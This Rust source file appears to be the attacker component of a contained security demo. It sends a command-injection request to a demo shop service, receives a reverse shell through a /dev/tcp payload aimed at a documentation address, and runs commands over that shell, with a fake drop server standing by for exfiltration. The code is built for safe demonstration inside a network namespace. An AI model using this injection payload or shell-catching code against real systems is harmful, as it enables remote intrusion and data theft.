//! The demo's attacker: breaks into the service and works through the shell it gets.
//!
//! All its sockets are made inside the container's network namespace, on addresses of documentation networks
//! (RFC 5737) that are put on that namespace's own loopback device: nothing leaves the machine.
//!
//! ```text
//! attacker ──GET /status?item=;bash…──► shop-api ──► sh ──► bash
//!    ▲                                                       │ connects to PEER:SHELL_PORT, becomes a shell
//!    └──────────────── commands, output ─────────────────────┘
//! ```

use std::fs::File;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::path::Path;
use std::time::{Duration, Instant};

use super::service;

/// Where the broken service's shell connects to.
pub const PEER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
/// Port of [`PEER`] that waits for the shell.
pub const SHELL_PORT: u16 = 4444;
/// A second server, where the attacker's shell sends what it found.
pub const DROP_PEER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 7);
/// Port of [`DROP_PEER`].
pub const DROP_PORT: u16 = 443;
/// What a person who looks would take for a name; what follows `;` runs in the container.
const EXPLOIT: &str = "x; bash -c 'exec bash <>/dev/tcp/203.0.113.66/4444 >&0 2>&0'";
/// How long anything inside the container may take.
const PATIENCE: Duration = Duration::from_secs(10);
/// Lines of a command's output that are kept.
const OUTPUT_LINES_MAX: usize = 20;

/// The attack could not go on.
#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    /// The container's network could not be entered or prepared.
    #[error("could not {attempt} in the network namespace of the demo's container")]
    Network {
        /// What was tried.
        attempt: &'static str,
        /// Why it failed.
        source: io::Error,
    },
    /// The service or its shell did not answer.
    #[error("could not {attempt} within {} s", PATIENCE.as_secs())]
    Silent {
        /// What was tried.
        attempt: String,
        /// Why it failed.
        source: io::Error,
    },
}

/// The attacker's listening sockets, before the break-in.
#[derive(Debug)]
pub struct Attacker {
    namespace: File,
    shell_listener: TcpListener,
    /// Accepts in the kernel what the shell connects to; nobody reads it.
    _drop_listener: TcpListener,
}

/// A shell inside the container, reached through the hole.
#[derive(Debug)]
pub struct Shell {
    output: BufReader<TcpStream>,
    input: TcpStream,
    commands: u32,
    /// The request that broke in; it stays open as long as the shell.
    _request: TcpStream,
}

impl Attacker {
    /// Puts the fake peers on the loopback device of the network namespace at `namespace` (`/proc/PID/ns/net`) and
    /// listens on them.
    ///
    /// # Errors
    /// [`AttackError::Network`] when the namespace cannot be entered or an address not be used.
    pub fn prepare(namespace: &Path) -> Result<Self, AttackError> {
        let failed = |attempt| move |source| AttackError::Network { attempt, source };
        let namespace = File::open(namespace).map_err(failed("open the namespace"))?;
        within(&namespace, || {
            for (label, address) in [("lo:1", PEER), ("lo:2", DROP_PEER)] {
                add_loopback_address(label, address)
                    .map_err(failed("add a fake peer's address"))?;
            }
            let listen =
                |address: (Ipv4Addr, u16)| TcpListener::bind(address).map_err(failed("listen"));
            Ok((listen((PEER, SHELL_PORT))?, listen((DROP_PEER, DROP_PORT))?))
        })
        .map_err(failed("enter the namespace"))?
        .map(|(shell_listener, drop_listener)| Self {
            namespace,
            shell_listener,
            _drop_listener: drop_listener,
        })
    }

    /// Waits until the service answers.
    ///
    /// # Errors
    /// [`AttackError::Silent`] when it does not within ten seconds.
    pub fn await_service(&self) -> Result<(), AttackError> {
        self.await_healthchecks(0)
    }

    /// Waits until the service has seen `wanted` healthchecks.
    ///
    /// # Errors
    /// [`AttackError::Silent`] when it has not within ten seconds.
    pub fn await_healthchecks(&self, wanted: u64) -> Result<(), AttackError> {
        let deadline = Instant::now() + PATIENCE;
        loop {
            let source = match self.healthchecks() {
                Ok(seen) if seen >= wanted => return Ok(()),
                Ok(_) => io::ErrorKind::TimedOut.into(),
                Err(error) => error,
            };
            if Instant::now() > deadline {
                let attempt = format!("see {wanted} healthchecks of the demo's service");
                return Err(AttackError::Silent { attempt, source });
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn healthchecks(&self) -> io::Result<u64> {
        let mut request = self.connect()?;
        request.set_read_timeout(Some(PATIENCE))?;
        request.write_all(b"GET /healthchecks HTTP/1.0\r\n\r\n")?;
        let mut answer = String::new();
        request.read_to_string(&mut answer)?;
        let number = answer
            .lines()
            .last()
            .and_then(|line| line.trim().parse().ok());
        number.ok_or_else(|| io::Error::other("the service's answer holds no number"))
    }

    /// Breaks into the service and returns the shell that connects back.
    ///
    /// # Errors
    /// [`AttackError::Silent`] when no shell connects within ten seconds.
    pub fn break_in(&self) -> Result<Shell, AttackError> {
        let silent = |source| AttackError::Silent {
            attempt: "get a shell from the demo's service".to_owned(),
            source,
        };
        let mut request = self.connect().map_err(silent)?;
        write!(
            request,
            "GET /status?item={} HTTP/1.0\r\n\r\n",
            service::encoded(EXPLOIT)
        )
        .map_err(silent)?;
        let input = accept(&self.shell_listener).map_err(silent)?;
        input.set_read_timeout(Some(PATIENCE)).map_err(silent)?;
        let output = BufReader::new(input.try_clone().map_err(silent)?);
        Ok(Shell {
            output,
            input,
            commands: 0,
            _request: request,
        })
    }

    fn connect(&self) -> io::Result<TcpStream> {
        let service = SocketAddr::from((Ipv4Addr::LOCALHOST, service::PORT));
        within(&self.namespace, || {
            TcpStream::connect_timeout(&service, PATIENCE)
        })?
    }
}

impl Shell {
    /// Runs `command` in the container and returns the first lines of what it printed.
    ///
    /// # Errors
    /// [`AttackError::Silent`] when it does not end within ten seconds.
    pub fn run(&mut self, command: &str) -> Result<Vec<String>, AttackError> {
        self.commands += 1;
        let end = format!("end of command {}", self.commands);
        self.exchange(command, &end)
            .map_err(|source| AttackError::Silent {
                attempt: format!("run {command:?}"),
                source,
            })
    }

    fn exchange(&mut self, command: &str, end: &str) -> io::Result<Vec<String>> {
        writeln!(self.input, "{command}\necho '{end}'")?;
        let mut lines = Vec::new();
        loop {
            let mut line = String::new();
            if self.output.read_line(&mut line)? == 0 {
                return Err(io::Error::new(
                    io::ErrorKind::UnexpectedEof,
                    "the shell has gone",
                ));
            }
            if line.trim_end() == end {
                return Ok(lines);
            }
            if lines.len() < OUTPUT_LINES_MAX {
                lines.push(line.trim_end().to_owned());
            }
        }
    }
}

/// Accepts one connection within [`PATIENCE`].
fn accept(listener: &TcpListener) -> io::Result<TcpStream> {
    listener.set_nonblocking(true)?;
    let deadline = Instant::now() + PATIENCE;
    loop {
        match listener.accept() {
            Ok((connection, _)) => {
                connection.set_nonblocking(false)?;
                return Ok(connection);
            }
            Err(error)
                if error.kind() == io::ErrorKind::WouldBlock && Instant::now() < deadline =>
            {
                std::thread::sleep(Duration::from_millis(2));
            }
            Err(error) => return Err(error),
        }
    }
}

/// Runs `work` on a thread of its own inside the network namespace; sockets it makes stay there.
fn within<T: Send>(namespace: &File, work: impl FnOnce() -> T + Send) -> io::Result<T> {
    std::thread::scope(|scope| {
        let entered = scope.spawn(|| {
            // SAFETY: setns takes a descriptor and a number; it changes the calling thread alone.
            match unsafe { libc::setns(namespace.as_raw_fd(), libc::CLONE_NEWNET) } {
                0 => Ok(work()),
                _ => Err(io::Error::last_os_error()),
            }
        });
        entered
            .join()
            .unwrap_or_else(|_| Err(io::Error::other("the thread in the namespace panicked")))
    })
}

/// Adds `address` to the loopback device of this thread's network namespace under the label `label`.
fn add_loopback_address(label: &str, address: Ipv4Addr) -> io::Result<()> {
    let socket = std::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    // SAFETY: all of ifreq is plain data, for which zero is a valid value.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    for (to, from) in request.ifr_name.iter_mut().zip(label.bytes()) {
        *to = from as libc::c_char;
    }
    let wanted = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(address).to_be(),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: both are plain data of 16 bytes; an address of this family is what SIOCSIFADDR reads there.
    request.ifr_ifru.ifru_addr =
        unsafe { std::mem::transmute::<libc::sockaddr_in, libc::sockaddr>(wanted) };
    // SAFETY: the request is a valid ifreq that lives through the call.
    match unsafe { libc::ioctl(socket.as_raw_fd(), libc::SIOCSIFADDR as _, &request) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}
